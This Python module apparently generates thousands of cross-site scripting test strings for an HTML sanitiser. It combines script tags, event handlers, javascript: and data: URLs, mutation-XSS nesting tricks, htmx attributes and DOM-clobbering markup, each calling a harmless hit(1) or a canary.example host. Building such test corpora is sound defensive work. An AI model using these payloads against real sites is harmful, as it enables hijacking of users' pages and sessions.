"""HTML that strangers might send to run something in a reader's page: thousands of strings from some hundred parts.

Every one of them calls `hit(…)` where it succeeds, or asks for an address with `canary` in it.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import product

TAGS = """
    img svg body iframe video audio input details marquee object embed select textarea button form isindex keygen
    style link meta base script math a p div source picture table td math mi mtext annotation-xml math mglyph
    foreignObject animate set use image frameset applet bgsound layer custom-element portal fencedframe
"""
EVENTS = "onload onerror onclick onmouseover onfocus ontoggle onbegin onanimationstart onpageshow"
SEPARATORS = [" ", "/", "\t", "\n", "\f", "\r", "\x00", " / ", "\x0b", "/x/", '"', " a=b "]
SCHEMES = """
    javascript:hit(1)|JaVaScRiPt:hit(1)|java&#9;script:hit(1)|java&#10;script:hit(1)|java&#13;script:hit(1)|
    &#1;javascript:hit(1)|&#x20;javascript:hit(1)|javascript&colon;hit(1)|&#106;avascript:hit(1)|
    &#x6A&#x61vascript:hit(1)|java&Tab;script:hit(1)|java&NewLine;script:hit(1)|javascript:javascript:hit(1)|
    vbscript:hit(1)|data:text/html,<script>hit(1)</script>|data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=|
    data:image/svg+xml,<svg/onload=hit(1)>|feed:javascript:hit(1)|view-source:javascript:hit(1)|blob:hit|
    file:///etc/passwd|about:srcdoc|//canary.example/x|\\\\canary.example\\x|http:canary|https:/canary|
    http://a@javascript:hit(1)|x:javascript:hit(1)|&#xFEFF;javascript:hit(1)|javascript://x%0ahit(1)|
    &#0;javascript:hit(1)|&#8203;javascript:hit(1)|jav&#x00000A;ascript:hit(1)|http://[javascript:hit(1)|
    http://x"onload="hit(1)|http://x'onload='hit(1)|http://x` onerror=hit(1)|http://x> <img src=x onerror=hit(1)>
""".replace("\n", "").split("|")
ADDRESSES = """
    href src srcset action formaction data poster background xlink:href cite ping longdesc lowsrc dynsrc code
    codebase archive classid usemap manifest profile content imagesrcset srcdoc
"""
BARE = [
    "<script>hit(1)</script>",
    "<script src=//canary.example/x></script>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "<script\x0b>hit(1)</script>",
    "<script/x>hit(1)</script >",
    "<<script>hit(1)//<</script>",
    "<ScRiPt>hit(1)</sCrIpT>",
    "<script>hit(1)",
    "<script x='</script>'>hit(1)</script>",
    "<!--><img src=x onerror=hit(1)>-->",
    "<!---><img src=x onerror=hit(1)>-->",
    "<!-- --!><img src=x onerror=hit(1)> -->",
    "<!-- <!-- --><img src=x onerror=hit(1)> -->",
    "<!x><img src=x onerror=hit(1)>",
    "<?x ><img src=x onerror=hit(1)>",
    "</ x><img src=x onerror=hit(1)>",
    "<![CDATA[<img src=x onerror=hit(1)>]]>",
    "<![CDATA[><img src=x onerror=hit(1)>]]>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=hit(1)>'>]>&y;",
    "&lt;img src=x onerror=hit(1)&gt;",
    "&amp;lt;img src=x onerror=hit(1)&amp;gt;",
    "&#60;img src=x onerror=hit(1)&#62;",
    "<img src=x:x onerror\x00=hit(1)>",
    "<img src='x' title='\"><img src=x onerror=hit(1)>'>",
    '<img alt="<script>hit(1)</script>" src=x>',
    '<img alt="`><img src=x onerror=hit(1)>" src=x>',
    '<p title="</noscript><img src=x onerror=hit(1)>">x</p>',
    '<p title="</style><img src=x onerror=hit(1)>">x</p>',
    '<p title="--><img src=x onerror=hit(1)>">x</p>',
    '<p title="]]><img src=x onerror=hit(1)>">x</p>',
    '<a title="x" title=""><img src=x onerror=hit(1)>">x</a>',
    "<noscript><p title='</noscript><img src=x onerror=hit(1)>'></noscript>",
    "<noscript><style></noscript><img src=x onerror=hit(1)></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src=# "
    "onerror=hit(1)>'>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=hit(1)>'></h1>",
    "<svg></p><style><a id='</style><img src=1 onerror=hit(1)>'>",
    "<svg><style><!--</style><img src=x onerror=hit(1)>-->",
    "<svg><p><style><!--</style><img src=x onerror=hit(1)>--></style></svg>",
    "<math><annotation-xml encoding='text/html'><svg><style><img src=x onerror=hit(1)></style></svg>",
    "<math><annotation-xml encoding='application/xhtml+xml'><img src=x onerror=hit(1)></annotation-xml></math>",
    "<svg><foreignObject><math><mi><style><img src=x onerror=hit(1)></style></mi></math></foreignObject></svg>",
    "<svg><desc><noscript><img src=x onerror=hit(1)></noscript></desc></svg>",
    "<svg><title><style><img src=x onerror=hit(1)></style></title></svg>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:hit(1) /><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=hit(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>hit(1)</script></svg>#x'/></svg>",
    "<svg><image href=//canary.example/x onload=hit(1)></svg>",
    "<math href=javascript:hit(1)><mi>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit(1)>x</maction></math>",
    "<math xlink:href=javascript:hit(1)><mtext xlink:href=javascript:hit(1)>x</mtext></math>",
    "<table><td background=//canary.example/x>x",
    "<table><math><td><mglyph><style><img src=x onerror=hit(1)></style>",
    "<select><template><img src=x onerror=hit(1)></template></select>",
    "<select><style></select><img src=x onerror=hit(1)></style>",
    "<select><noembed></select><script>hit(1)</script></noembed>",
    "<template><script>hit(1)</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=hit(1)></template></div>",
    "<xmp><p title='</xmp><img src=x onerror=hit(1)>'>",
    "<listing>&lt;img src=x onerror=hit(1)&gt;</listing>",
    "<textarea></textarea><img src=x onerror=hit(1)>",
    "<title><p title='</title><img src=x onerror=hit(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=hit(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=hit(1)>'>",
    "<plaintext><img src=x onerror=hit(1)>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<object data='data:text/html,<script>parent.hit(1)</script>'></object>",
    "<embed src='data:text/html,<script>parent.hit(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=//canary.example/x'>",
    "<meta http-equiv=Content-Security-Policy content='img-src none'>",
    "<base href=//canary.example/>",
    "<link rel=stylesheet href=//canary.example/x>",
    "<link rel=prefetch href=//canary.example/x><link rel=preload as=script href=//canary.example/x>",
    "<style>@import '//canary.example/x';</style>",
    "<style>*{background:url(//canary.example/x)}</style>",
    "<p style=background:url(//canary.example/x)>x</p>",
    "<p style='position:fixed;inset:0;width:100vw'>x</p>",
    "<form action=//canary.example/x id=f><input name=q autofocus onfocus=hit(1)></form><button form=f>x</button>",
    "<button form=acts formaction=//canary.example/x>x</button><input form=acts name=in value=x>",
    "<a href=x target=_self ping=//canary.example/x download>x</a>",
    "<area href=javascript:hit(1)><map name=m><area href=javascript:hit(1)></map><img src=x usemap=#m>",
    "<video poster=//canary.example/x src=//canary.example/y autoplay><source onerror=hit(1)></video>",
    "<audio src=//canary.example/x onerror=hit(1) autoplay></audio>",
    "<video><track src=//canary.example/x default></video>",
    "<img srcset='javascript:hit(1) 1x, data:text/html,x 2x' src=x>",
    "<img srcset=',,,//canary.example/x 1x\" onerror=hit(1) x=\"' src=x>",
    "<picture><source srcset='x\" onerror=\"hit(1)' media='x\" onerror=\"hit(1)'><img src=x></picture>",
    "<img lowsrc=javascript:hit(1) dynsrc=javascript:hit(1)>",
    "<div hx-get=/canary hx-trigger=load>x</div>",
    "<div data-hx-get=/canary data-hx-trigger=load>x</div>",
    "<div hx-on:click=hit(1) hx-on--load=hit(1) data-hx-on:load=hit(1)>x</div>",
    "<div hx-vals='js:{a:hit(1)}' hx-post=/canary hx-trigger='load, every 1s'>x</div>",
    "<div hx-get=/canary hx-trigger='load[hit(1)]'>x</div>",
    "<div hx-ext=x hx-sse='connect:/canary' hx-ws='connect:/canary' sse-connect=/canary ws-connect=/canary>x</div>",
    "<p data-act=all id=acts class='undo fixed'>x</p><div id=live></div><div id=undo></div><main id=main></main>",
    "<img name=body><img id=document><a id=location name=location></a><form name=forms></form>",
    "<h2 id=acts>x</h2><h2 id='x\" onclick=\"hit(1)'>x</h2>",
    "<p lang='x\" onclick=\"hit(1)' dir='x' title='\"'>x</p>",
    "<code class='language-x\" onclick=\"hit(1)'>x</code><code class='undo fixed'>x</code>",
    "<time datetime='\"><script>hit(1)</script>'>x</time>",
    "<p is=x-y slot=z part=q exportparts=x popover nonce=x itemprop=x contenteditable draggable=true>x</p>",
    "<button popovertarget=keys commandfor=keys command=show-modal>x</button>",
    "<details open ontoggle=hit(1)><summary onclick=hit(1)>x</summary></details>",
    "<dialog open><form method=dialog></form></dialog>",
    "<marquee onstart=hit(1)>x</marquee><bgsound src=//canary.example/x>",
    "<input type=image src=//canary.example/x onerror=hit(1)>",
    "<isindex action=javascript:hit(1) type=image><keygen autofocus onfocus=hit(1)>",
    "<frameset onload=hit(1)><frame src=javascript:hit(1)></frameset>",
    "<body onload=hit(1) background=//canary.example/x><html onclick=hit(1)><head><script>hit(1)</script>",
    "</div></div></article></main></body></html><script>hit(1)</script>",
    "</p></div><script>hit(1)</script><div>",
    "\x1b(J<img src=x onerror=hit(1)>\x1b(B",
    "+ADw-script+AD4-hit(1)+ADw-/script+AD4-",
    "\ufeff<img src=x onerror=hit(1)>",
    "<ımg src=x onerror=hit(1)><ſcript>hit(1)</ſcript>",
    "<ruby><rt><rtc><style><img src=x onerror=hit(1)></style></rtc></rt></ruby>",
    "<ol start='1\" onclick=\"hit(1)' type='x'><li value='1\" onclick=\"hit(1)'>x</ol>",
    "{{constructor.constructor('hit(1)')()}} {% csrf_token %} ${hit(1)} <%= hit(1) %>",
]
AROUND = [
    "{}",
    "<p>{}</p>",
    "<svg>{}</svg>",
    "<math>{}</math>",
    "<svg><desc>{}",
    "<svg><title>{}",
    "<svg><foreignObject>{}",
    "<math><mtext>{}",
    "<math><mi><svg>{}",
    "<math><annotation-xml encoding=text/html>{}",
    "<math><mtext><table><mglyph><style>{}",
    "<noscript>{}</noscript>",
    "<style>{}</style>",
    "<title>{}</title>",
    "<textarea>{}</textarea>",
    "<xmp>{}</xmp>",
    "<noembed>{}</noembed>",
    "<iframe>{}</iframe>",
    "<template>{}</template>",
    "<select>{}</select>",
    "<select><option>{}",
    "<table>{}</table>",
    "<table><tr><td>{}",
    "<table><caption><svg>{}",
    "<a href=https://x.example/>{}</a>",
    "<form><input>{}",
    "<object>{}</object>",
    "<video>{}</video>",
    "<picture>{}</picture>",
    "<ruby><rp>{}",
    "<pre>\n{}",
    "<b><i><p>{}</b></i>",
    "<!--{}-->",
    '<p title="{}">x</p>',
    "<p title='{}'>x</p>",
    "<p title={}>x</p>",
    '<img src=x alt="{}">',
    "<{}>",
    "</{}>",
    "<img {}>",
    "&lt;{}&gt;",
    "<![CDATA[{}]]>",
]
PIECES = (
    """
    <|>|/>|</|<!--|-->|--!>|<![CDATA[|]]>|"|'|`|=|&lt;|&gt;|&quot;|&amp;|&#x3c;|&#62;|svg|math|mtext|mglyph|mi|style|
    script|title|desc|foreignObject|annotation-xml|table|td|caption|select|option|noscript|textarea|template|p|a|b|
    form|img|br|h1|li|ruby|rt|xmp|iframe|plaintext| src=x| onerror=hit(1)| title=| alt=| href=javascript:hit(1)|
    <img src=x onerror=hit(1)>|<svg>|</svg>|<math>|</math>|<mtext>|<style>|</style>|<p>|</p>|<table>|</table>|
    <a href=//canary.example>|</a>|<script>hit(1)</script>|<title>|</title>|<select>|</select>|<mglyph>|<noscript>|
    </noscript>|<form>|</form>|<b>|</b>|<h1>|</h1>|<pre>|<template>|</template>|<desc>|<foreignObject>|\x00|\n|x
""".strip("\n ")
    .replace("\n    ", "")
    .split("|")
)


def attacks(spliced: int = 1500) -> list[str]:
    """All of them, each once, in an order that does not change."""
    return list(dict.fromkeys([*written(), *splices(spliced)]))


def written() -> Iterator[str]:
    """Every bare attack in every surrounding, and attributes on every element."""
    yield from (around.replace("{}", bare) for around, bare in product(AROUND, BARE))
    for number, (tag, event) in enumerate(product(TAGS.split(), EVENTS.split())):
        separator = SEPARATORS[number % len(SEPARATORS)]
        yield f"<{tag}{separator}{event}=hit(1) src=x href=x autofocus tabindex=0 open>x</{tag}>"
        yield f"<{tag} src=x{separator}{event.upper()}{separator}= 'hit(1)'>"
    tags = TAGS.split()
    for number, (address, scheme) in enumerate(product(ADDRESSES.split(), SCHEMES)):
        tag = tags[number % len(tags)]
        yield f'<{tag} {address}="{scheme}">x</{tag}>'
        yield f"<a {address}='{scheme}'>x</a>"
        yield f"<img {address}={scheme}>"


def splices(count: int) -> Iterator[str]:
    """Broken markup put together by chance, always the same."""
    chance = random.Random(1957)
    for _ in range(count):
        yield "".join(chance.choice(PIECES) for _ in range(chance.randrange(4, 24)))
